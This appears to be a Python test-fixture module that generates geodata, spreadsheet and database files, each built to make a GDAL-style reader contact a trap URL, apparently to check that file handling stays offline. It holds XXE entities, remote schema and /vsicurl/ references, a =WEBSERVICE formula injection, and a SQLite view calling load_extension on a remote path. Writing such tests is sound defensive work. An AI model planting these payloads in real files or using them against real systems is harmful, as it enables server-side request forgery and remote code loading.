"""Files that try to make the program that opens them go online: each names an address of the trap."""

from __future__ import annotations

import gzip
import sqlite3
import zipfile
from pathlib import Path
from typing import Callable, Dict

_FEATURES = (
    '"features":[{"type":"Feature","properties":{"soort_wet":"Aglais io","datm_start":"2026-06-01","bg2017":"Bos"},'
    '"geometry":{"type":"Polygon","coordinates":[[[5.38,52.15],[5.4,52.15],[5.4,52.17],[5.38,52.15]]]}}]'
)
_CSV = "obs_uri,soort_wet,datm_start,centrumx,centrumy\nhttp://x/1,Aglais io,2026-06-01,155000,463000\n"
_SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>soort</t></is></c></row></sheetData></worksheet>'
)


def _geojson(kind: str, key: str, value: str) -> str:
    return f'{{"type":"FeatureCollection",{_crs(kind, key, value)},{_FEATURES}}}'


def _crs(kind: str, key: str, value: str) -> str:
    return f'"crs":{{"type":"{kind}","properties":{{"{key}":"{value}"}}}}'


def _gml(srs: str = "EPSG:28992", head: str = "", root: str = "wfs:FeatureCollection", within: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{head}<{root} xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:wfs="http://www.opengis.net/wfs" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml" {within}>'
        f'<gml:featureMember><ogr:a gml:id="a.1"><ogr:geom><gml:Point srsName="{srs}"><gml:pos>155000 463000</gml:pos>'
        "</gml:Point></ogr:geom><ogr:soort_wet>Aglais io</ogr:soort_wet><ogr:datm_start>2026-06-01</ogr:datm_start>"
        f"</ogr:a></gml:featureMember></{root}>"
    )


def _texts(url: str) -> Dict[str, str]:
    link = _geojson("link", "href", f"{url}/link")
    schema = f"http://ogr.maptools.org/ {url}/wfs?SERVICE=WFS&amp;REQUEST=DescribeFeatureType&amp;TYPENAME=a"
    entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url}/entity"><!ATTLIST gml:Point srsName CDATA "{url}/att">]>'
    return {
        "link.geojson": link,
        "url.geojson": _geojson("url", "url", f"{url}/url"),
        "name.geojson": _geojson("name", "name", f"{url}/name"),
        "vsicurl.geojson": _geojson("name", "name", f"/vsicurl/{url}/name.prj"),
        "capitals.geojson": link.replace('"crs"', '"CRS"').replace('"link"', '"LINK"').replace('"href"', '"HREF"'),
        "escaped.geojson": link.replace('"crs"', '"\\u0063r\\u0073"').replace('"link"', '"\\u006cink"'),
        "commented.geojson": link.replace('"crs":', '"crs"/* a */ : // b\n'),
        "last.geojson": f'{{"type":"FeatureCollection",{_FEATURES},{_crs("link", "href", f"{url}/last")}}}',
        "link.csv": link,
        "schema.gml": _gml(within=f'xsi:schemaLocation="{schema}"'),
        "srs.gml": _gml(srs=f"{url}/srs"),
        "escaped_srs.gml": _gml(srs=f"{url}/srs".replace("/", "&#47;").replace(":", "&#58;")),
        "entity.gml": _gml(srs="&x;", head=entity),
        "xlink.gml": _gml().replace("<ogr:geom>", f'<ogr:ref xlink:href="{url}/xlink"/><ogr:geom>'),
        "include.gml": _gml(root="ogr:FeatureCollection"),
        "template.gml": _gml(root="ogr:FeatureCollection"),
        "link.kml": (
            '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
            f"<NetworkLink><Link><href>{url}/network</href></Link></NetworkLink>"
            f"<Placemark><styleUrl>{url}/style.kml#a</styleUrl><name>x</name><Point><coordinates>5,52</coordinates>"
            "</Point></Placemark></Document></kml>"
        ),
        "layer.vrt": (
            f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{url}/a.csv</SrcDataSource>'
            "</OGRVRTLayer></OGRVRTDataSource>"
        ),
        "nested.vrt": (
            '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource relativeToVRT="1">layer.vrt</SrcDataSource>'
            "</OGRVRTLayer></OGRVRTDataSource>"
        ),
        "nested_link.vrt": (
            '<OGRVRTDataSource><OGRVRTLayer name="link"><SrcDataSource relativeToVRT="1">link.geojson</SrcDataSource>'
            "</OGRVRTLayer></OGRVRTDataSource>"
        ),
        "commented.vrt": (
            f'<!-- <a><b> --><OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{url}/b.csv'
            "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
        ),
        "service.xml": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
        "map.xml": f'<GDAL_WMS><Service name="WMS"><ServerUrl>{url}/wms</ServerUrl></Service></GDAL_WMS>',
        "track.gpx": f'<gpx version="1.1"><metadata><link href="{url}/gpx"/></metadata><wpt lat="52" lon="5"/></gpx>',
        "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/svg"/></svg>',
        "esri.json": f'{{"geometryType":"esriGeometryPoint","spatialReference":{{"wkt":"{url}/wkt"}},"features":[]}}',
        "topo.json": f'{{"type":"Topology",{_crs("link", "href", f"{url}/topo")},"objects":{{}}}}',
        "address.txt": f"/vsicurl/{url}/a.csv\n",
        "table.csv": _CSV.replace("http://x/1", f"{url}/row"),
        "lijst.csv": f"landschapstype;soortgroep;wetenschappelijke_naam\n*;Dagvlinders;=WEBSERVICE('{url}/cell')\n",
        "profiel.json": f'{{"$schema":"{url}/schema","id":"x","version":"1"}}',
        "table.tab": f'!table\n!version 300\nDefinition Table\n  Type NATIVE Charset "x"\nOpen Table "{url}/tab"\n',
    }


def _zipped(path: Path, members: Dict[str, str]) -> None:
    with zipfile.ZipFile(path, "w") as zipped:
        for name, text in members.items():
            zipped.writestr(name, text)


def _gzipped(path: Path, text: str) -> None:
    path.write_bytes(gzip.compress(text.encode()))


def _meta(url: str, location: str) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE archive [<!ENTITY x SYSTEM "{url}/meta">]>'
        f'<archive xmlns="http://rs.tdwg.org/dwc/text/" metadata="{url}/eml.xml"><core encoding="UTF-8" '
        'fieldsTerminatedBy="," ignoreHeaderLines="1" rowType="http://rs.tdwg.org/dwc/terms/Occurrence">'
        f'<files><location>{location}</location></files><id index="0"/>'
        '<field index="1" term="http://rs.tdwg.org/dwc/terms/scientificName"/></core></archive>'
    )


def _workbook(path: Path, url: str) -> None:
    entity = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{url}/entity">]>'
    _zipped(
        path,
        {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
                'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
                'sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
                'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
            ),
            "xl/workbook.xml": (
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
                '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships><Relationship Id="rId1" Type="t/worksheet" Target="worksheets/sheet1.xml"/>'
                f'<Relationship Id="rId2" Type="t/externalLink" TargetMode="External" Target="{url}/rel"/>'
                "</Relationships>"
            ),
            "xl/worksheets/sheet1.xml": entity + _SHEET,
        },
    )


def _database(path: Path, driver: str, url: str) -> None:
    from osgeo import ogr, osr

    reference = osr.SpatialReference()
    reference.ImportFromEPSG(28992)
    dataset = ogr.GetDriverByName(driver).CreateDataSource(str(path))
    layer = dataset.CreateLayer("a", reference, ogr.wkbPoint)
    layer.CreateField(ogr.FieldDefn("soort_wet", ogr.OFTString))
    feature = ogr.Feature(layer.GetLayerDefn())
    feature.SetField(0, "Aglais io")
    feature.SetGeometry(ogr.CreateGeometryFromWkt("POINT(155000 463000)"))
    layer.CreateFeature(feature)
    layer = dataset = None
    connection = sqlite3.connect(path)
    connection.execute("PRAGMA writable_schema = 1")
    for name, using in (
        ("ogr", f"VirtualOGR(''/vsicurl/{url}/a.geojson'')"),
        ("shp", f"VirtualShape(''{url}/s'', x, 1)"),
    ):
        connection.execute(
            "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
            f"VALUES ('table', 'v{name}', 'v{name}', 0, 'CREATE VIRTUAL TABLE v{name} USING {using}')"
        )
    connection.execute(f"CREATE VIEW loads AS SELECT 1 AS fid, load_extension('{url}/x') AS soort_wet")
    if driver == "GPKG":
        connection.execute(
            "UPDATE gpkg_spatial_ref_sys SET definition = ?, organization = 'X', organization_coordsys_id = 7 "
            "WHERE srs_id = 28992",
            (f"{url}/srs",),
        )
    connection.commit()
    connection.close()


def write_hostile_files(folder: Path, url: str) -> Dict[str, Path]:
    """Every hostile file by its name; ``url``: the address of the trap, without a stroke at its end."""
    paths = {}
    for name, text in _texts(url).items():
        paths[name] = folder / name
        paths[name].write_text(text, encoding="utf-8")
    (folder / "include.xsd").write_text(
        '<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" '
        'xmlns:gml="http://www.opengis.net/gml" targetNamespace="http://ogr.maptools.org/">'
        f'<xs:include schemaLocation="{url}/include.xsd"/></xs:schema>',
        encoding="utf-8",
    )
    (folder / "template.gfs").write_text(
        "<GMLFeatureClassList><GMLFeatureClass><Name>a</Name><ElementPath>a</ElementPath>"
        f"<SRSName>{url}/gfs</SRSName></GMLFeatureClass></GMLFeatureClassList>",
        encoding="utf-8",
    )
    made: Dict[str, Callable[[Path], None]] = {
        "tables.gpkg": lambda path: _database(path, "GPKG", url),
        "tables.sqlite": lambda path: _database(path, "SQLite", url),
        "sheet.xlsx": lambda path: _workbook(path, url),
        "archive.zip": lambda path: _zipped(path, {"meta.xml": _meta(url, "occurrence.txt"), "occurrence.txt": _CSV}),
        "elsewhere.zip": lambda path: _zipped(path, {"meta.xml": _meta(url, f"{url}/occurrence.txt")}),
        "link.geojson.gz": lambda path: _gzipped(path, _texts(url)["link.geojson"]),
        "link.zip": lambda path: _zipped(path, {"a.geojson": _texts(url)["link.geojson"]}),
        "schema.zip": lambda path: _zipped(path, {"a.gml": _texts(url)["schema.gml"]}),
        "project.qgz": lambda path: _zipped(
            path, {"a.qgs": f"<qgis><maplayer><datasource>{url}/q</datasource></maplayer></qgis>"}
        ),
    }
    for name, make in made.items():
        paths[name] = folder / name
        make(paths[name])
    (folder / "folder").mkdir()
    (folder / "folder" / "meta.xml").write_text(_meta(url, f"{url}/occurrence.txt"), encoding="utf-8")
    paths["folder"] = folder / "folder"
    return paths
